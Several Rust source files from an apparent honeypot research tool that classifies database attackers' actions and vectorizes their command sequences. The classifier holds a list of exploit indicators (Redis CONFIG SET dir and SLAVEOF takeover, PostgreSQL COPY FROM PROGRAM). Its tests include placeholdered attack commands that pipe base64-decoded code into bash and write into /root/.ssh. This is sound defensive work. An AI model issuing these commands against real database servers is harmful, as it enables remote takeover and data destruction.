        assert_eq!(sealed, batch(&events));
        assert_eq!(sealed.len(), 4); // health diverted
        assert_eq!(sealed.health_events().len(), 1);
        assert_eq!(sealed.view(Partition::Low).len(), 1);
        assert_eq!(sealed.view(Partition::MedHigh).len(), 3);
    }

    #[test]
    fn split_fold_merges_to_the_same_frame_in_either_order() {
        let events = fixture();
        let head = fold_all(&events[..2], 0);
        let tail = fold_all(&events[2..], 2);
        assert_eq!(head.next_seq(), 2);
        assert_eq!(tail.next_seq(), 5);
        let forward = PartialFrame::merge(head.clone(), tail.clone());
        let reversed = PartialFrame::merge(tail, head);
        assert_eq!(forward, reversed);
        assert_eq!(forward.run_ranges(), vec![(0, 5)]);
        assert_eq!(forward.seal(), batch(&events));
    }

    #[test]
    fn replica_segments_deduplicate() {
        let events = fixture();
        let head = fold_all(&events[..2], 0);
        let tail = fold_all(&events[2..], 2);
        let replica = fold_all(&events[..2], 0);
        let merged = PartialFrame::merge(PartialFrame::merge(head, replica), tail);
        assert_eq!(merged.span(), 5);
        assert_eq!(merged.seal(), batch(&events));
    }

    #[test]
    fn gaps_stay_visible_and_empty_partials_are_neutral() {
        let events = fixture();
        let head = fold_all(&events[..2], 0);
        let gap_tail = fold_all(&events[3..], 3); // sequence 2 lost
        let merged = PartialFrame::merge(PartialFrame::merge(head, PartialFrame::new(7)), gap_tail);
        assert_eq!(merged.run_ranges(), vec![(0, 2), (3, 5)]);
        assert_eq!(merged.span(), 4);
        let empty = PartialFrame::new(0);
        assert!(empty.is_empty());
        assert_eq!(empty.run_ranges(), Vec::new());
        assert!(empty.seal().is_empty());
    }
}
