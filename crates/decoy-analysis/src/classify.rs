//! Behavioral classification (§4.3): scanning, scouting, exploiting.
//!
//! The paper applies rule filters to each source IP's actions. The sets are
//! nested by construction: every scout also scans; every exploiter may also
//! scout and scan. [`BehaviorProfile`] keeps the set structure; tables that
//! need a single label use [`BehaviorProfile::primary`].

use crate::frame::{FrameKind, FrameView};
use decoy_store::{Dbms, Event, EventKind, EventStore};
use serde::{Deserialize, Serialize};
use std::collections::BTreeMap;
use std::net::IpAddr;

/// One behavior class.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub enum Behavior {
    /// Connect/disconnect without meaningful interaction.
    Scanning,
    /// Login attempts and information-gathering queries.
    Scouting,
    /// Attempts to alter, exploit, or take control.
    Exploiting,
}

impl Behavior {
    /// Table label.
    pub fn label(&self) -> &'static str {
        match self {
            Behavior::Scanning => "Scanning",
            Behavior::Scouting => "Scouting",
            Behavior::Exploiting => "Exploiting",
        }
    }
}

/// Which classes a source belongs to (nested sets, §4.3).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
pub struct BehaviorProfile {
    /// Always true once the source connected.
    pub scanning: bool,
    /// Logins or info-gathering observed.
    pub scouting: bool,
    /// Manipulation/exploitation observed.
    pub exploiting: bool,
}

impl BehaviorProfile {
    /// The most intrusive class (exploiting > scouting > scanning).
    pub fn primary(&self) -> Behavior {
        if self.exploiting {
            Behavior::Exploiting
        } else if self.scouting {
            Behavior::Scouting
        } else {
            Behavior::Scanning
        }
    }

    /// Merge with another observation of the same source.
    pub fn merge(&mut self, other: BehaviorProfile) {
        self.scanning |= other.scanning;
        self.scouting |= other.scouting;
        self.exploiting |= other.exploiting;
    }
}

/// Exploit indicators: lowercase substrings of the normalized action. One
/// match marks the source as exploiting. These mirror Table 9's attack
/// inventory.
const EXPLOIT_PATTERNS: &[&str] = &[
    // Redis system takeover (Listing 1/2) and CVE-2022-0543 (Listing 3)
    "config set dir",
    "config set dbfilename",
    "slaveof",
    "replicaof",
    "module load",
    "system.exec",
    "eval ",
    // data destruction / ransom staging
    "flushdb",
    "flushall",
    "drop ",
    "dropdatabase",
    "delete ",
    "insert ",
    // PostgreSQL RCE (Listing 4) and privilege manipulation (Listing 13)
    "from program",
    "alter user",
    "alter role",
    "create table",
    // Elasticsearch script execution (Listings 5/6)
    "script_fields",
    "runtime.getruntime",
];

/// Scouting indicators (beyond any login attempt, which always counts).
const SCOUT_PATTERNS: &[&str] = &[
    "keys",
    "info",
    "type ",
    "dbsize",
    "config get",
    "get ",
    "select",
    "show",
    "listdatabases",
    "listcollections",
    "find ",
    "count ",
    "ismaster",
    "hello",
    "buildinfo",
    "serverstatus",
    "getlog",
    "whatsmyuri",
    "aggregate",
    "legacy-find",
    "ping",
    "echo",
    "/_cat",
    "_all_dbs",
    "_all_docs",
    "/_nodes",
    "/_cluster",
    "/_search",
    "get /",
];

/// Classify one normalized action string.
pub fn classify_action(action: &str) -> Behavior {
    let lower = action.to_lowercase();
    // Exploit wins over scout when both match ("config set dir" contains
    // "config get"-adjacent text etc.).
    if EXPLOIT_PATTERNS.iter().any(|p| lower.contains(p)) {
        return Behavior::Exploiting;
    }
    if SCOUT_PATTERNS.iter().any(|p| lower.contains(p)) {
        return Behavior::Scouting;
    }
    Behavior::Scanning
}

/// Classify one event.
pub fn classify_event(event: &Event) -> BehaviorProfile {
    let mut profile = BehaviorProfile {
        scanning: true,
        ..Default::default()
    };
    match &event.kind {
        EventKind::Connect
        | EventKind::Disconnect
        | EventKind::Malformed { .. }
        | EventKind::Health { .. } => {}
        EventKind::LoginAttempt { .. } => profile.scouting = true,
        EventKind::Payload { recognized, .. } => {
            // Foreign-service probes (RDP, JDWP, VMware SOAP, Craft CMS) are
            // scouting per §6.2: "classified as scanning and scouting rather
            // than exploitation".
            if recognized.is_some() {
                profile.scouting = true;
            }
        }
        EventKind::Command { action, .. } => match classify_action(action) {
            Behavior::Exploiting => {
                profile.scouting = true;
                profile.exploiting = true;
            }
            Behavior::Scouting => profile.scouting = true,
            Behavior::Scanning => {}
        },
    }
    profile
}

/// Classify every source IP seen on honeypots of `dbms` (or all honeypots
/// when `dbms` is `None`). Deterministic ordering via `BTreeMap`.
pub fn classify_sources(
    store: &EventStore,
    dbms: Option<Dbms>,
) -> BTreeMap<IpAddr, BehaviorProfile> {
    let mut out: BTreeMap<IpAddr, BehaviorProfile> = BTreeMap::new();
    let events = match dbms {
        Some(d) => store.by_dbms(d),
        None => store.all(),
    };
    for event in &events {
        if matches!(event.kind, EventKind::Health { .. }) {
            continue;
        }
        out.entry(event.src)
            .or_default()
            .merge(classify_event(event));
    }
    out
}

/// Classify one interned event kind — same rules as [`classify_event`].
pub fn classify_frame_kind(kind: &FrameKind) -> BehaviorProfile {
    let mut profile = BehaviorProfile {
        scanning: true,
        ..Default::default()
    };
    match kind {
        FrameKind::Connect
        | FrameKind::Disconnect
        | FrameKind::Malformed { .. }
        | FrameKind::Health { .. } => {}
        FrameKind::LoginAttempt { .. } => profile.scouting = true,
        FrameKind::Payload { recognized, .. } => {
            if recognized.is_some() {
                profile.scouting = true;
            }
        }
        FrameKind::Command { action, .. } => match classify_action(action) {
            Behavior::Exploiting => {
                profile.scouting = true;
                profile.exploiting = true;
            }
            Behavior::Scouting => profile.scouting = true,
            Behavior::Scanning => {}
        },
    }
    profile
}

/// Frame counterpart of [`classify_sources`]: classify every source seen in
/// `view`, without touching the store.
pub fn classify_view(view: FrameView<'_>, dbms: Option<Dbms>) -> BTreeMap<IpAddr, BehaviorProfile> {
    let mut out: BTreeMap<IpAddr, BehaviorProfile> = BTreeMap::new();
    for event in view.events_of(dbms) {
        out.entry(event.src)
            .or_default()
            .merge(classify_frame_kind(&event.kind));
    }
    out
}

/// Counts per class with the paper's nested-set semantics removed: each
/// source counted once, under its primary class (the Table 8 presentation).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
pub struct ClassCounts {
    /// Sources whose primary class is scanning.
    pub scanning: usize,
    /// Sources whose primary class is scouting.
    pub scouting: usize,
    /// Sources whose primary class is exploiting.
    pub exploiting: usize,
}

impl ClassCounts {
    /// Tally primary classes.
    pub fn from_profiles<'a>(profiles: impl IntoIterator<Item = &'a BehaviorProfile>) -> Self {
        let mut counts = ClassCounts::default();
        for p in profiles {
            match p.primary() {
                Behavior::Scanning => counts.scanning += 1,
                Behavior::Scouting => counts.scouting += 1,
                Behavior::Exploiting => counts.exploiting += 1,
            }
        }
        counts
    }

    /// Total sources.
    pub fn total(&self) -> usize {
        self.scanning + self.scouting + self.exploiting
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use decoy_net::time::EXPERIMENT_START;
    use decoy_store::{ConfigVariant, HoneypotId, InteractionLevel};

    fn ev(src: u8, kind: EventKind) -> Event {
        Event {
            ts: EXPERIMENT_START,
            honeypot: HoneypotId::new(
                Dbms::Redis,
                InteractionLevel::Medium,
                ConfigVariant::Default,
                0,
            ),
            src: IpAddr::from([192, 0, 2, src]),
            session: 1,
            kind,
        }
    }

    fn cmd(src: u8, action: &str) -> Event {
        ev(
            src,
            EventKind::Command {
                action: action.into(),
                raw: action.into(),
            },
        )
    }

    #[test]
    fn action_classification_rules() {
        assert_eq!(classify_action("SLAVEOF <IP> <N>"), Behavior::Exploiting);
        assert_eq!(
            classify_action("CONFIG SET dir /root/.ssh/"),
            Behavior::Exploiting
        );
        assert_eq!(
            classify_action("COPY <HASH> FROM PROGRAM 'echo <CODE>| base64 -d | bash'"),
            Behavior::Exploiting
        );
        assert_eq!(
            classify_action("ALTER USER postgres WITH NOSUPERUSER"),
            Behavior::Exploiting
        );
        assert_eq!(classify_action("KEYS *"), Behavior::Scouting);
        assert_eq!(classify_action("INFO server"), Behavior::Scouting);
        assert_eq!(classify_action("listDatabases"), Behavior::Scouting);
        assert_eq!(classify_action("GET / HTTP"), Behavior::Scouting);
        assert_eq!(classify_action("xyzzy"), Behavior::Scanning);
    }

    #[test]
    fn profiles_are_nested_sets() {
        let store = EventStore::new();
        // pure scanner
        store.log(ev(1, EventKind::Connect));
        store.log(ev(1, EventKind::Disconnect));
        // scout: brute-force login
        store.log(ev(2, EventKind::Connect));
        store.log(ev(
            2,
            EventKind::LoginAttempt {
                username: "sa".into(),
                password: "123".into(),
                success: false,
            },
        ));
        // exploiter: scouted first, then attacked
        store.log(ev(3, EventKind::Connect));
        store.log(cmd(3, "INFO server"));
        store.log(cmd(3, "SLAVEOF <IP> <N>"));

        let profiles = classify_sources(&store, Some(Dbms::Redis));
        let p1 = profiles[&IpAddr::from([192, 0, 2, 1])];
        assert!(p1.scanning && !p1.scouting && !p1.exploiting);
        let p2 = profiles[&IpAddr::from([192, 0, 2, 2])];
        assert!(p2.scanning && p2.scouting && !p2.exploiting);
        let p3 = profiles[&IpAddr::from([192, 0, 2, 3])];
        assert!(p3.scanning && p3.scouting && p3.exploiting);

        assert_eq!(p1.primary(), Behavior::Scanning);
        assert_eq!(p2.primary(), Behavior::Scouting);
        assert_eq!(p3.primary(), Behavior::Exploiting);

        let counts = ClassCounts::from_profiles(profiles.values());
        assert_eq!(
            (counts.scanning, counts.scouting, counts.exploiting),
            (1, 1, 1)
        );
        assert_eq!(counts.total(), 3);
    }

    #[test]
    fn foreign_probes_are_scouting_not_exploiting() {
        let store = EventStore::new();
        store.log(ev(9, EventKind::Connect));
        store.log(ev(
            9,
            EventKind::Payload {
                len: 14,
                recognized: Some("jdwp-scan".into()),
                preview: "JDWP-Handshake".into(),
            },
        ));
        let profiles = classify_sources(&store, None);
        let p = profiles[&IpAddr::from([192, 0, 2, 9])];
        assert_eq!(p.primary(), Behavior::Scouting);
    }

    #[test]
    fn unrecognized_payload_is_scanning() {
        let store = EventStore::new();
        store.log(ev(
            4,
            EventKind::Payload {
                len: 4,
                recognized: None,
                preview: "....".into(),
            },
        ));
        store.log(ev(4, EventKind::Malformed { detail: "x".into() }));
        let profiles = classify_sources(&store, None);
        assert_eq!(
            profiles[&IpAddr::from([192, 0, 2, 4])].primary(),
            Behavior::Scanning
        );
    }

    #[test]
    fn dbms_filter_scopes_classification() {
        let store = EventStore::new();
        store.log(ev(5, EventKind::Connect));
        let redis = classify_sources(&store, Some(Dbms::Redis));
        let mongo = classify_sources(&store, Some(Dbms::MongoDb));
        assert_eq!(redis.len(), 1);
        assert!(mongo.is_empty());
    }

    #[test]
    fn frame_classification_matches_store_path() {
        use crate::frame::{AnalysisFrame, Partition};
        let store = EventStore::new();
        store.log(ev(1, EventKind::Connect));
        store.log(cmd(1, "INFO server"));
        store.log(cmd(2, "SLAVEOF <IP> <N>"));
        store.log(ev(
            3,
            EventKind::LoginAttempt {
                username: "sa".into(),
                password: "123".into(),
                success: false,
            },
        ));
        store.log(ev(
            4,
            EventKind::Payload {
                len: 14,
                recognized: Some("jdwp-scan".into()),
                preview: "JDWP-Handshake".into(),
            },
        ));
        let frame = AnalysisFrame::build(&store, &decoy_geo::GeoDb::builtin());
        let view = frame.view(Partition::All);
        for dbms in [None, Some(Dbms::Redis), Some(Dbms::MongoDb)] {
            assert_eq!(classify_view(view, dbms), classify_sources(&store, dbms));
        }
    }
}
