//! Fleet-uptime accounting from supervisor health telemetry.
//!
//! The supervisor logs every [`HealthState`] transition into the
//! [`EventStore`] as [`EventKind::Health`] events (zero source, session 0).
//! This module folds them into one row per supervised listener — how often
//! it degraded, how many times it was restarted, and where it ended up —
//! the data behind the report's "Fleet health" section. Fault-free runs log
//! no health events and produce an empty table, which keeps the report
//! byte-identical to pre-supervisor output.

use decoy_net::supervisor::HealthState;
use decoy_store::{Event, EventKind, EventStore, HoneypotId};
use std::collections::BTreeMap;

/// Uptime summary for one supervised listener.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ListenerUptime {
    /// The honeypot instance the listener serves.
    pub honeypot: HoneypotId,
    /// Health transitions observed (excluding the initial bind).
    pub transitions: usize,
    /// Times the listener entered `Degraded` (accept loop died).
    pub degraded: usize,
    /// Times the circuit breaker opened (`Down`).
    pub down: usize,
    /// Highest restart count reported.
    pub restarts: u32,
    /// State of the last transition logged.
    pub final_state: HealthState,
    /// Cause attached to the last transition.
    pub final_detail: String,
}

/// Fold every [`EventKind::Health`] event into per-listener uptime rows,
/// ordered by [`HoneypotId`]. Empty when the run logged no health telemetry.
pub fn fleet_uptime(store: &EventStore) -> Vec<ListenerUptime> {
    let mut rows: BTreeMap<HoneypotId, ListenerUptime> = BTreeMap::new();
    store.fold((), |(), event| fold_health(&mut rows, event));
    rows.into_values().collect()
}

/// [`fleet_uptime`] over a borrowed event slice — the streaming-frame path,
/// which renders the fleet section from
/// [`AnalysisFrame::health_events`](crate::frame::AnalysisFrame::health_events)
/// without materializing an [`EventStore`]. Non-health events are ignored.
pub fn fleet_uptime_events<'a>(events: impl IntoIterator<Item = &'a Event>) -> Vec<ListenerUptime> {
    let mut rows: BTreeMap<HoneypotId, ListenerUptime> = BTreeMap::new();
    for event in events {
        fold_health(&mut rows, event);
    }
    rows.into_values().collect()
}

/// Fold one event (health or otherwise) into the per-listener row map.
fn fold_health(rows: &mut BTreeMap<HoneypotId, ListenerUptime>, event: &Event) {
    if let EventKind::Health {
        state,
        restarts,
        detail,
    } = &event.kind
    {
        let row = rows
            .entry(event.honeypot)
            .or_insert_with(|| ListenerUptime {
                honeypot: event.honeypot,
                transitions: 0,
                degraded: 0,
                down: 0,
                restarts: 0,
                final_state: *state,
                final_detail: detail.clone(),
            });
        row.transitions += 1;
        match state {
            HealthState::Healthy => {}
            HealthState::Degraded => row.degraded += 1,
            HealthState::Down => row.down += 1,
        }
        row.restarts = row.restarts.max(*restarts);
        row.final_state = *state;
        row.final_detail = detail.clone();
    }
}

/// Totals across the whole fleet table.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct FleetTotals {
    /// Listeners that logged at least one transition.
    pub listeners: usize,
    /// Sum of restarts across listeners.
    pub restarts: u64,
    /// Listeners whose last logged state is `Down`.
    pub down: usize,
}

/// Sum a set of uptime rows.
pub fn fleet_totals(rows: &[ListenerUptime]) -> FleetTotals {
    let mut totals = FleetTotals {
        listeners: rows.len(),
        ..FleetTotals::default()
    };
    for row in rows {
        totals.restarts += u64::from(row.restarts);
        if row.final_state == HealthState::Down {
            totals.down += 1;
        }
    }
    totals
}

#[cfg(test)]
mod tests {
    use super::*;
    use decoy_net::time::Timestamp;
    use decoy_store::{ConfigVariant, Dbms, Event, InteractionLevel};
    use std::net::{IpAddr, Ipv4Addr};

    fn health(id: HoneypotId, state: HealthState, restarts: u32, detail: &str) -> Event {
        Event {
            ts: Timestamp::from_millis(0),
            honeypot: id,
            src: IpAddr::V4(Ipv4Addr::UNSPECIFIED),
            session: 0,
            kind: EventKind::Health {
                state,
                restarts,
                detail: detail.to_string(),
            },
        }
    }

    #[test]
    fn folds_transitions_into_per_listener_rows() {
        let store = EventStore::new();
        let a = HoneypotId::new(
            Dbms::Redis,
            InteractionLevel::Medium,
            ConfigVariant::Default,
            0,
        );
        let b = HoneypotId::new(
            Dbms::MySql,
            InteractionLevel::Low,
            ConfigVariant::Default,
            1,
        );
        store.log(health(
            a,
            HealthState::Degraded,
            1,
            "accept loop died; restarting",
        ));
        store.log(health(
            a,
            HealthState::Degraded,
            1,
            "restarted (restart #1)",
        ));
        store.log(health(a, HealthState::Healthy, 1, "stable since restart"));
        store.log(health(
            b,
            HealthState::Degraded,
            3,
            "accept loop died; restarting",
        ));
        store.log(health(b, HealthState::Down, 3, "crash loop"));

        let rows = fleet_uptime(&store);
        // the slice-based fold (streaming path) agrees with the store fold
        assert_eq!(store.read(|events| fleet_uptime_events(events)), rows);
        assert_eq!(rows.len(), 2);
        // BTreeMap order: MySql sorts before Redis in the Dbms enum.
        assert_eq!(rows[0].honeypot, b);
        assert_eq!(rows[0].down, 1);
        assert_eq!(rows[0].final_state, HealthState::Down);
        assert_eq!(rows[1].honeypot, a);
        assert_eq!(rows[1].transitions, 3);
        assert_eq!(rows[1].degraded, 2);
        assert_eq!(rows[1].restarts, 1);
        assert_eq!(rows[1].final_state, HealthState::Healthy);

        let totals = fleet_totals(&rows);
        assert_eq!(totals.listeners, 2);
        assert_eq!(totals.restarts, 4);
        assert_eq!(totals.down, 1);
    }

    #[test]
    fn fault_free_store_yields_an_empty_table() {
        let store = EventStore::new();
        let id = HoneypotId::new(
            Dbms::Redis,
            InteractionLevel::Medium,
            ConfigVariant::Default,
            0,
        );
        store.log(Event {
            ts: Timestamp::from_millis(0),
            honeypot: id,
            src: "10.0.0.1".parse().expect("ipv4"),
            session: 1,
            kind: EventKind::Connect,
        });
        assert!(fleet_uptime(&store).is_empty());
        assert_eq!(fleet_totals(&[]).listeners, 0);
    }
}
