//! Term Frequency vectorization of action sequences (§6.1).
//!
//! Each source IP's observed action sequence is a "document"; each
//! normalized action is a "term". `tf(t, d)` is the relative frequency of
//! term `t` in document `d` (duplicates included), exactly as the paper
//! defines it. Vectors are sparse over a shared [`Vocabulary`] — see
//! [`crate::tfvec`] for the representation; this module re-exports the
//! types and holds the store/frame document extraction.

pub use crate::tfvec::{TfVector, Vocabulary};

use crate::frame::{FrameKind, FrameView};
use decoy_store::{Dbms, EventKind, EventStore};
use std::collections::BTreeMap;
use std::net::IpAddr;
use std::sync::Arc;

/// Extract the per-source action sequences ("documents") for one DBMS, in
/// event order. Terms are: normalized command actions, `LOGIN` for
/// authentication attempts, the recognized label for foreign payloads, and
/// `MALFORMED` for grammar violations. Connects/disconnects carry no
/// behavioral signal and are excluded (they would swamp the TF mass of
/// scanners' documents).
pub fn action_sequences(store: &EventStore, dbms: Option<Dbms>) -> BTreeMap<IpAddr, Vec<String>> {
    let events = match dbms {
        Some(d) => store.by_dbms(d),
        None => store.all(),
    };
    let mut docs: BTreeMap<IpAddr, Vec<String>> = BTreeMap::new();
    for event in &events {
        let term = match &event.kind {
            EventKind::Connect | EventKind::Disconnect => None,
            EventKind::LoginAttempt { .. } => Some("LOGIN".to_string()),
            EventKind::Command { action, .. } => Some(action.clone()),
            EventKind::Payload { recognized, .. } => {
                Some(recognized.clone().unwrap_or_else(|| "PAYLOAD".to_string()))
            }
            EventKind::Malformed { .. } => Some("MALFORMED".to_string()),
            // Supervisor telemetry carries a zero source; skip it before the
            // entry below would mint a phantom document for 0.0.0.0.
            EventKind::Health { .. } => continue,
        };
        // Every connecting source gets a (possibly empty) document so that
        // scanners appear in the clustering input too.
        let doc = docs.entry(event.src).or_default();
        if let Some(term) = term {
            doc.push(term);
        }
    }
    docs
}

/// Frame counterpart of [`action_sequences`]: the same documents, but the
/// terms are the frame's shared `Arc<str>` allocations — no string cloning.
pub fn action_sequences_view(
    view: FrameView<'_>,
    dbms: Option<Dbms>,
) -> BTreeMap<IpAddr, Vec<Arc<str>>> {
    let login: Arc<str> = Arc::from("LOGIN");
    let payload: Arc<str> = Arc::from("PAYLOAD");
    let malformed: Arc<str> = Arc::from("MALFORMED");
    let mut docs: BTreeMap<IpAddr, Vec<Arc<str>>> = BTreeMap::new();
    for event in view.events_of(dbms) {
        let term = match &event.kind {
            FrameKind::Connect | FrameKind::Disconnect | FrameKind::Health { .. } => None,
            FrameKind::LoginAttempt { .. } => Some(Arc::clone(&login)),
            FrameKind::Command { action, .. } => Some(Arc::clone(action)),
            FrameKind::Payload { recognized, .. } => Some(
                recognized
                    .as_ref()
                    .map(Arc::clone)
                    .unwrap_or_else(|| Arc::clone(&payload)),
            ),
            FrameKind::Malformed { .. } => Some(Arc::clone(&malformed)),
        };
        // Every connecting source gets a (possibly empty) document so that
        // scanners appear in the clustering input too.
        let doc = docs.entry(event.src).or_default();
        if let Some(term) = term {
            doc.push(term);
        }
    }
    docs
}

/// Vectorize a set of documents under one shared vocabulary; returns
/// `(sources, vectors, vocabulary)` with parallel ordering.
pub fn vectorize<T: AsRef<str>>(
    docs: &BTreeMap<IpAddr, Vec<T>>,
) -> (Vec<IpAddr>, Vec<TfVector>, Vocabulary) {
    let mut vocab = Vocabulary::new();
    let mut sources = Vec::with_capacity(docs.len());
    let mut vectors = Vec::with_capacity(docs.len());
    for (src, terms) in docs {
        sources.push(*src);
        vectors.push(TfVector::from_terms(terms, &mut vocab));
    }
    (sources, vectors, vocab)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn terms(v: &[&str]) -> Vec<String> {
        v.iter().map(|s| s.to_string()).collect()
    }

    // Representation-level TfVector/Vocabulary tests live in `crate::tfvec`;
    // this module keeps the store/frame extraction tests.

    #[test]
    fn sequences_from_store() {
        use decoy_net::time::EXPERIMENT_START;
        use decoy_store::{ConfigVariant, Event, HoneypotId, InteractionLevel};
        let store = EventStore::new();
        let src: IpAddr = "192.0.2.10".parse().unwrap();
        let hp = HoneypotId::new(
            Dbms::Redis,
            InteractionLevel::Medium,
            ConfigVariant::Default,
            0,
        );
        for kind in [
            EventKind::Connect,
            EventKind::LoginAttempt {
                username: "u".into(),
                password: "p".into(),
                success: false,
            },
            EventKind::Command {
                action: "KEYS *".into(),
                raw: "KEYS *".into(),
            },
            EventKind::Disconnect,
        ] {
            store.log(Event {
                ts: EXPERIMENT_START,
                honeypot: hp,
                src,
                session: 1,
                kind,
            });
        }
        let docs = action_sequences(&store, Some(Dbms::Redis));
        assert_eq!(docs[&src], terms(&["LOGIN", "KEYS *"]));
        let (sources, vectors, vocab) = vectorize(&docs);
        assert_eq!(sources, vec![src]);
        assert_eq!(vectors.len(), 1);
        assert_eq!(vocab.len(), 2);

        // the frame path yields the same documents and vectors
        let frame = crate::frame::AnalysisFrame::build(&store, &decoy_geo::GeoDb::builtin());
        let view_docs =
            action_sequences_view(frame.view(crate::frame::Partition::All), Some(Dbms::Redis));
        assert_eq!(view_docs.len(), docs.len());
        for (ip, doc) in &docs {
            let view_doc: Vec<&str> = view_docs[ip].iter().map(|t| t.as_ref()).collect();
            let legacy_doc: Vec<&str> = doc.iter().map(String::as_str).collect();
            assert_eq!(view_doc, legacy_doc);
        }
        let (view_sources, view_vectors, view_vocab) = vectorize(&view_docs);
        assert_eq!(view_sources, sources);
        assert_eq!(view_vectors, vectors);
        assert_eq!(view_vocab.len(), vocab.len());
    }
}
