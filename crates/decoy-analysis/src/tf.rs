//! Term Frequency vectorization of action sequences (§6.1).
//!
//! Each source IP's observed action sequence is a "document"; each
//! normalized action is a "term". `tf(t, d)` is the relative frequency of
//! term `t` in document `d` (duplicates included), exactly as the paper
//! defines it. Vectors are dense over a shared [`Vocabulary`] so Euclidean
//! distances (the clustering metric) are straightforward.

use crate::frame::{FrameKind, FrameView};
use decoy_store::{Dbms, EventKind, EventStore};
use std::collections::BTreeMap;
use std::net::IpAddr;
use std::sync::Arc;

/// Bidirectional term ↔ index mapping shared by a set of documents.
#[derive(Debug, Default, Clone)]
pub struct Vocabulary {
    terms: Vec<String>,
    index: BTreeMap<String, usize>,
}

impl Vocabulary {
    /// Empty vocabulary.
    pub fn new() -> Self {
        Vocabulary::default()
    }

    /// Index of `term`, inserting it if new.
    pub fn intern(&mut self, term: &str) -> usize {
        if let Some(&i) = self.index.get(term) {
            return i;
        }
        let i = self.terms.len();
        self.terms.push(term.to_string());
        self.index.insert(term.to_string(), i);
        i
    }

    /// Index of `term` if known.
    pub fn get(&self, term: &str) -> Option<usize> {
        self.index.get(term).copied()
    }

    /// The term at `index`.
    pub fn term(&self, index: usize) -> Option<&str> {
        self.terms.get(index).map(String::as_str)
    }

    /// Number of distinct terms.
    pub fn len(&self) -> usize {
        self.terms.len()
    }

    /// True when no terms have been interned.
    pub fn is_empty(&self) -> bool {
        self.terms.is_empty()
    }
}

/// A dense TF vector over a [`Vocabulary`].
#[derive(Debug, Clone, PartialEq)]
pub struct TfVector {
    /// Relative frequencies; `values.len() == vocabulary.len()` at build
    /// time (older vectors are implicitly zero-extended by [`TfVector::distance_sq`]).
    pub values: Vec<f64>,
    /// Total number of terms in the underlying document.
    pub total_terms: usize,
}

impl TfVector {
    /// Build from a document (sequence of terms), interning new terms.
    /// Generic over the term representation so `String` documents (legacy
    /// path) and interned `Arc<str>` documents (frame path) vectorize
    /// identically.
    pub fn from_terms<T: AsRef<str>>(terms: &[T], vocab: &mut Vocabulary) -> Self {
        let mut counts: Vec<f64> = vec![0.0; vocab.len()];
        for term in terms {
            let idx = vocab.intern(term.as_ref());
            if idx >= counts.len() {
                counts.resize(idx + 1, 0.0);
            }
            counts[idx] += 1.0;
        }
        let total = terms.len().max(1) as f64;
        for v in &mut counts {
            *v /= total;
        }
        TfVector {
            values: counts,
            total_terms: terms.len(),
        }
    }

    /// Squared Euclidean distance, treating missing trailing dimensions as
    /// zero (vectors built before the vocabulary grew).
    pub fn distance_sq(&self, other: &TfVector) -> f64 {
        let n = self.values.len().max(other.values.len());
        let mut sum = 0.0;
        for i in 0..n {
            let a = self.values.get(i).copied().unwrap_or(0.0);
            let b = other.values.get(i).copied().unwrap_or(0.0);
            let d = a - b;
            sum += d * d;
        }
        sum
    }

    /// Euclidean distance.
    pub fn distance(&self, other: &TfVector) -> f64 {
        self.distance_sq(other).sqrt()
    }
}

/// Extract the per-source action sequences ("documents") for one DBMS, in
/// event order. Terms are: normalized command actions, `LOGIN` for
/// authentication attempts, the recognized label for foreign payloads, and
/// `MALFORMED` for grammar violations. Connects/disconnects carry no
/// behavioral signal and are excluded (they would swamp the TF mass of
/// scanners' documents).
pub fn action_sequences(store: &EventStore, dbms: Option<Dbms>) -> BTreeMap<IpAddr, Vec<String>> {
    let events = match dbms {
        Some(d) => store.by_dbms(d),
        None => store.all(),
    };
    let mut docs: BTreeMap<IpAddr, Vec<String>> = BTreeMap::new();
    for event in &events {
        let term = match &event.kind {
            EventKind::Connect | EventKind::Disconnect => None,
            EventKind::LoginAttempt { .. } => Some("LOGIN".to_string()),
            EventKind::Command { action, .. } => Some(action.clone()),
            EventKind::Payload { recognized, .. } => {
                Some(recognized.clone().unwrap_or_else(|| "PAYLOAD".to_string()))
            }
            EventKind::Malformed { .. } => Some("MALFORMED".to_string()),
            // Supervisor telemetry carries a zero source; skip it before the
            // entry below would mint a phantom document for 0.0.0.0.
            EventKind::Health { .. } => continue,
        };
        // Every connecting source gets a (possibly empty) document so that
        // scanners appear in the clustering input too.
        let doc = docs.entry(event.src).or_default();
        if let Some(term) = term {
            doc.push(term);
        }
    }
    docs
}

/// Frame counterpart of [`action_sequences`]: the same documents, but the
/// terms are the frame's shared `Arc<str>` allocations — no string cloning.
pub fn action_sequences_view(
    view: FrameView<'_>,
    dbms: Option<Dbms>,
) -> BTreeMap<IpAddr, Vec<Arc<str>>> {
    let login: Arc<str> = Arc::from("LOGIN");
    let payload: Arc<str> = Arc::from("PAYLOAD");
    let malformed: Arc<str> = Arc::from("MALFORMED");
    let mut docs: BTreeMap<IpAddr, Vec<Arc<str>>> = BTreeMap::new();
    for event in view.events_of(dbms) {
        let term = match &event.kind {
            FrameKind::Connect | FrameKind::Disconnect | FrameKind::Health { .. } => None,
            FrameKind::LoginAttempt { .. } => Some(Arc::clone(&login)),
            FrameKind::Command { action, .. } => Some(Arc::clone(action)),
            FrameKind::Payload { recognized, .. } => Some(
                recognized
                    .as_ref()
                    .map(Arc::clone)
                    .unwrap_or_else(|| Arc::clone(&payload)),
            ),
            FrameKind::Malformed { .. } => Some(Arc::clone(&malformed)),
        };
        // Every connecting source gets a (possibly empty) document so that
        // scanners appear in the clustering input too.
        let doc = docs.entry(event.src).or_default();
        if let Some(term) = term {
            doc.push(term);
        }
    }
    docs
}

/// Vectorize a set of documents under one shared vocabulary; returns
/// `(sources, vectors, vocabulary)` with parallel ordering.
pub fn vectorize<T: AsRef<str>>(
    docs: &BTreeMap<IpAddr, Vec<T>>,
) -> (Vec<IpAddr>, Vec<TfVector>, Vocabulary) {
    let mut vocab = Vocabulary::new();
    let mut sources = Vec::with_capacity(docs.len());
    let mut vectors = Vec::with_capacity(docs.len());
    for (src, terms) in docs {
        sources.push(*src);
        vectors.push(TfVector::from_terms(terms, &mut vocab));
    }
    (sources, vectors, vocab)
}

#[cfg(test)]
mod tests {
    use super::*;

